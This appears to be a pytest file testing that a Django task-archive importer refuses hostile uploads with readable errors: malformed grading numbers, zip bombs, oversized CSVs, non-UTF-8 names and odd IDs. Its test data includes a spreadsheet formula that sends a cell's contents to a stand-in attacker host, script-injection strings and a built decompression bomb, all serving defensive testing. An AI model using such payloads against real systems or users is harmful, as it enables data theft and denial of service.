"""Hostile archives and odd inputs cost nothing (issue 52): each attack is a real archive built here, uploaded through
the import page and run by the worker's task; every one ends in a readable refusal or a bounded answer, never in a
job left running or a 500."""

from __future__ import annotations

import io
import json
import tarfile
import time
import tracemalloc
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from django.conf import settings

from tasks_app.models import SynthesizedTask
from tasks_app.task_archives.models import TaskArchiveImport
from tests.engine.rollout_bundles import make_bundle
from tests.web.test_task_archives import bundle_archive, upload


@pytest.fixture(autouse=True)
def own_data_dir(settings, tmp_path):
    settings.DATA_DIR = str(tmp_path / "data")  # what each test leaves on disk is its own


def tar_of(folder: Path, *, arcname: str = "shared") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        tar.add(folder, arcname=arcname)
    return out.getvalue()


def made_bundles(tmp_path, task_ids=("good-a", "bad-b")) -> list[Path]:
    folder = tmp_path / "set"
    folder.mkdir()
    bundles = []
    for index, task_id in enumerate(task_ids):
        bundles.append(make_bundle(tmp_path / "made", kind="binary", seed=index).rename(folder / task_id))
        (bundles[-1] / "task.json").write_text(json.dumps({"task_id": task_id, "spec": {}}))
    return bundles


def run_import(client, content: bytes, callbacks, *, name="upload.tar.gz") -> TaskArchiveImport:
    from workers.task_archives import import_task_archive

    response = upload(client, content, name=name, callbacks=callbacks)
    assert response.status_code == 302
    job = TaskArchiveImport.objects.latest("id")
    assert import_task_archive(job.id) is True
    job.refresh_from_db()
    assert job.state in ("succeeded", "failed") and job.finished_at is not None  # never left running
    assert not Path(job.upload_path).exists()
    return job


def leftover_bundle_folders() -> list[str]:
    bundles = Path(settings.DATA_DIR) / "bundles"
    stored = set(SynthesizedTask.objects.values_list("bundle_dir", flat=True))
    return [str(path) for folder in (bundles.iterdir() if bundles.is_dir() else [])
            for path in folder.iterdir() if str(path) not in stored]


def set_grading(bundle: Path, **changes) -> None:
    path = bundle / "private" / "grading.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | changes, allow_nan=True))


def test_a_nan_milestone_is_refused_by_name_and_the_job_finishes_listing_what_it_stored(
        client_for, tmp_path, django_capture_on_commit_callbacks):
    good, bad = made_bundles(tmp_path)
    set_grading(bad, milestones={"median": float("nan"), "bronze": 0.8, "silver": 0.85, "gold": 0.9})
    job = run_import(client_for("reviewer"), tar_of(tmp_path / "set"), django_capture_on_commit_callbacks)
    assert job.state == "succeeded" and job.summary["imported"] == ["good-a"]
    [refusal] = job.summary["refused"]
    assert refusal["task"] == "bad-b" and "milestones.median: expected a finite number" in refusal["reason"]
    assert list(SynthesizedTask.objects.values_list("task_id", flat=True)) == ["good-a"]
    assert leftover_bundle_folders() == []


def test_a_database_refusal_mid_import_fails_the_job_with_its_reason_and_keeps_nothing_half_written(
        client_for, tmp_path, django_capture_on_commit_callbacks, monkeypatch):
    # A refusal the checks above did not foresee, raised by the real database: a task id stored meanwhile.
    from tasks_app.task_archives import services

    real_store = services.imported_task_store

    def store_then_collide(*, bundle, job):
        task = real_store(bundle=bundle, job=job)
        if task.task_id == "bad-b":
            real_store(bundle=bundle, job=job)  # the same id twice: the table's unique constraint refuses it
        return task

    monkeypatch.setattr(services, "imported_task_store", store_then_collide)
    made_bundles(tmp_path)
    job = run_import(client_for("reviewer"), tar_of(tmp_path / "set"), django_capture_on_commit_callbacks)
    assert job.summary["imported"] == ["good-a"] and job.summary["refused"][0]["task"] == "bad-b"
    assert "UNIQUE" in job.summary["refused"][0]["reason"] or "unique" in job.summary["refused"][0]["reason"]
    assert list(SynthesizedTask.objects.values_list("task_id", flat=True)) == ["good-a"]
    assert leftover_bundle_folders() == []


@pytest.mark.parametrize("milestones, ladder, field", [
    ({"median": 0, "bronze": 0, "silver": 0, "gold": 0}, None, "milestones.median: 0 is roc_auc's worst score"),
    ({"median": 0.7, "bronze": 0.8, "silver": 0.85, "gold": 1e308}, None, "milestones.gold: 1e+308 is larger"),
    ({"median": 0.7, "bronze": 0.8, "silver": 0.85, "gold": 10 ** 49}, None, "milestones.gold: 1000000000"),
    ({"median": "0.7", "bronze": "<script>alert(1)</script>", "silver": 0.85, "gold": 0.9}, None,
     "milestones.median: expected a number"),
    ({"median": 0.9, "bronze": 0.8, "silver": 0.85, "gold": 0.95}, None, "milestones.bronze: 0.8 must be at least"),
    ({"median": 0.7, "bronze": 0.8, "silver": 0.85, "gold": 0.9}, {"oracle": "x"}, "ladder['oracle']: expected a number"),
])
def test_odd_grading_numbers_are_refused_with_the_field_named(client_for, tmp_path, django_capture_on_commit_callbacks,
                                                             milestones, ladder, field):
    [bad] = made_bundles(tmp_path, ("odd-grading",))
    set_grading(bad, milestones=milestones, **({"ladder": ladder} if ladder else {}))
    job = run_import(client_for("reviewer"), tar_of(tmp_path / "set"), django_capture_on_commit_callbacks)
    assert job.state == "failed" and not SynthesizedTask.objects.exists()
    assert field in job.summary["refused"][0]["reason"]
    assert leftover_bundle_folders() == []


def test_a_task_stored_with_text_in_its_ladder_still_renders(client_for, tmp_path, django_capture_on_commit_callbacks):
    run_import(client_for("reviewer"), bundle_archive(tmp_path), django_capture_on_commit_callbacks)
    # Rows stored before grading numbers were checked: the page leaves the bad entries out instead of answering 500.
    SynthesizedTask.objects.filter(task_id="imported-a").update(
        ladder={"oracle": "x", "linear": 0.8}, milestones={"median": "<script>x</script>", "gold": 0.9})
    viewer = client_for("viewer")
    page = viewer.get("/tasks/imported-a/")
    assert page.status_code == 200 and "<script>x</script>" not in page.content.decode()
    assert viewer.get("/api/tasks/imported-a/").status_code == 200


def wide_csv(columns: int = 20_000, rows: int = 300) -> bytes:
    # Repetitive values, as in the report: 12 MB that compress under a megabyte.
    values = np.tile((np.arange(rows) % 10)[:, None], (1, columns))
    frame = pd.DataFrame(values, columns=[f"c{i}" for i in range(columns)])
    frame.insert(0, "id", range(rows))
    return frame.to_csv(index=False).encode()


def test_a_twenty_thousand_column_archive_is_refused_and_a_stored_one_costs_little(
        client_for, api_for, tmp_path, django_capture_on_commit_callbacks):
    [wide] = made_bundles(tmp_path, ("wide-task",))
    content = wide_csv()
    assert len(content) > 10 << 20
    (wide / "public" / "train.csv").write_bytes(content)
    archive = tar_of(tmp_path / "set")
    assert len(archive) < 1 << 20  # a small upload
    job = run_import(client_for("reviewer"), archive, django_capture_on_commit_callbacks)
    assert job.state == "failed" and "public/train.csv: the header has 20,001 columns" in \
        job.summary["refused"][0]["reason"]
    # One already stored (say, before this check): its page and DNA read a bounded head of the file.
    run_import(client_for("reviewer"), bundle_archive(tmp_path / "plain"), django_capture_on_commit_callbacks)
    stored = SynthesizedTask.objects.get(task_id="imported-a")
    (Path(stored.bundle_dir) / "public" / "train.csv").write_bytes(content)
    viewer, api = client_for("viewer"), api_for("viewer")
    started = time.perf_counter()
    page = viewer.get("/tasks/imported-a/")
    page_seconds = time.perf_counter() - started
    started = time.perf_counter()
    dna = api.get("/api/tasks/imported-a/dna/")
    dna_seconds = time.perf_counter() - started
    assert page.status_code == 200 and dna.status_code == 200 and len(dna.content) < 200_000
    # A 64-column head of the file is charted (about 40 ms a chart; about 1 s alone, 9 s on two cores busy with the
    # suite), where the whole file once took 211 s: the bound catches that, not the load.
    assert page_seconds < 40 and dna_seconds < 10, (page_seconds, dna_seconds)
    tracemalloc.start()
    api.get("/api/tasks/imported-a/dna/")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 200 << 20, peak


def test_formula_cells_in_public_csvs_are_refused_as_seed_uploads_refuse_them(
        client_for, tmp_path, django_capture_on_commit_callbacks):
    [bundle] = made_bundles(tmp_path, ("formula-task",))
    train = pd.read_csv(bundle / "public" / "train.csv")
    train.loc[3, "colour"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    train.to_csv(bundle / "public" / "train.csv", index=False)
    job = run_import(client_for("reviewer"), tar_of(tmp_path / "set"), django_capture_on_commit_callbacks)
    assert job.state == "failed" and not SynthesizedTask.objects.exists()
    reason = job.summary["refused"][0]["reason"]
    assert reason.startswith("public/train.csv: line 5, column 'colour'") and "formula" in reason


def test_non_utf8_member_names_are_refused_and_the_import_list_still_answers(
        client_for, api_for, tmp_path, django_capture_on_commit_callbacks):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", format=tarfile.GNU_FORMAT, encoding="utf-8",
                      errors="surrogateescape") as tar:
        data = b"id\n1\n"
        member = tarfile.TarInfo("set/\udcffdir\udcfe/public/train.csv")
        member.size = len(data)
        tar.addfile(member, io.BytesIO(data))
    job = run_import(client_for("reviewer"), out.getvalue(), django_capture_on_commit_callbacks)
    assert job.state == "failed" and "a name that is not UTF-8 text" in job.error
    job.error.encode("utf-8")  # storable and showable
    assert api_for("reviewer").get("/api/task-archive-imports/").status_code == 200
    assert client_for("reviewer").get(f"/task-archives/import/{job.id}/").status_code == 200


def test_a_compressed_bomb_keeps_nothing(client_for, tmp_path, django_capture_on_commit_callbacks):
    from sandmle.archives.extract import ExtractLimits

    [bundle] = made_bundles(tmp_path, ("bomb-task",))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for path in sorted(bundle.rglob("*")):
            if path.is_file():
                archive.write(path, f"set/{path.relative_to(bundle.parent)}")
        with archive.open("set/bomb-task/public/zeros.bin", "w", force_zip64=True) as zeros:
            block = bytes(1 << 20)
            for _ in range((ExtractLimits().max_file_bytes >> 20) + 1):
                zeros.write(block)
    assert len(out.getvalue()) < 1 << 20
    job = run_import(client_for("reviewer"), out.getvalue(), django_capture_on_commit_callbacks, name="bomb.zip")
    assert job.state == "failed" and "larger than" in job.error
    assert leftover_bundle_folders() == [] and not SynthesizedTask.objects.exists()


@pytest.mark.parametrize("path", ["/training/compare/?runs=99999999999999999999",
                                  "/training/compare/?runs=9223372036854775808",
                                  "/campaigns/compare/?campaigns=1&campaigns=99999999999999999999",
                                  "/campaigns/compare/?campaigns=-1",
                                  "/training/compare/?" + "&".join(f"runs={n}" for n in range(1, 30))])
def test_huge_or_odd_ids_in_compare_views_are_400s(client_for, path):
    response = client_for("viewer").get(path)
    assert response.status_code == 400
    assert "not a number from 1 to" in response.content.decode() or "at most 20 numbers" in response.content.decode()


def test_compare_page_and_api_name_tasks_and_models_without_host_paths(client_for, api_for, users, task_set,
                                                                        settings, django_capture_on_commit_callbacks):
    from tests.checkpoint_dirs import checkpoint_dir
    from training_app.runs import services as training_services

    model = checkpoint_dir(settings.DATA_DIR)
    with django_capture_on_commit_callbacks(execute=False):
        runs = [training_services.training_run_create(task_set=task_set, model=model, steps=steps,
                                                      user=users["curator"]) for steps in (1, 2)]
    runs[1].config = runs[1].config | {"tasks": runs[1].config["tasks"][:1]}  # the task lists differ
    runs[1].save(update_fields=["config"])
    query = f"/training/compare/?runs={runs[0].id}&runs={runs[1].id}"
    viewer_page = client_for("viewer").get(query).content.decode()
    assert str(settings.DATA_DIR) not in viewer_page and "Settings that differ" in viewer_page
    assert task_set.tasks.order_by("task_id").first().task_id in viewer_page
    config = api_for("viewer").get(f"/api/training-runs/{runs[0].id}/").json()["config"]
    assert "output_dir" not in config and str(settings.DATA_DIR) not in json.dumps(config)
    assert config["model"] == Path(model).name
    run_page = client_for("viewer").get(f"/training/{runs[0].id}/").content.decode()
    assert str(settings.DATA_DIR) not in run_page and f"<code>{Path(model).name}</code>" in run_page
    assert runs[0].output_dir in client_for("admin").get(f"/training/{runs[0].id}/").content.decode()
    admin = api_for("admin").get(f"/api/training-runs/{runs[0].id}/").json()["config"]
    assert admin["output_dir"].startswith(str(settings.DATA_DIR)) and admin["model"] == model


def test_each_user_has_an_import_quota_counted_at_upload_and_while_unpacking(
        client_for, tmp_path, settings, django_capture_on_commit_callbacks):
    reviewer = client_for("reviewer")
    first = run_import(reviewer, bundle_archive(tmp_path / "one", ids=("quota-a",)), django_capture_on_commit_callbacks)
    assert first.state == "succeeded" and first.stored_bytes > 10_000
    again = bundle_archive(tmp_path / "two", ids=("quota-b",))
    settings.SANDMLE_IMPORT_QUOTA_BYTES = first.stored_bytes + 100
    refused = upload(reviewer, again, callbacks=django_capture_on_commit_callbacks)
    assert refused.status_code == 400 and "import quota" in str(refused.context["form"].errors["file"])
    # An upload that fits, unpacking to more than is left: refused by the extractor, nothing kept.
    settings.SANDMLE_IMPORT_QUOTA_BYTES = first.stored_bytes + len(again) + 100
    second = run_import(reviewer, again, django_capture_on_commit_callbacks)
    assert second.state == "failed" and "unpacks to more than" in second.error
    assert list(SynthesizedTask.objects.values_list("task_id", flat=True)) == ["quota-a"]
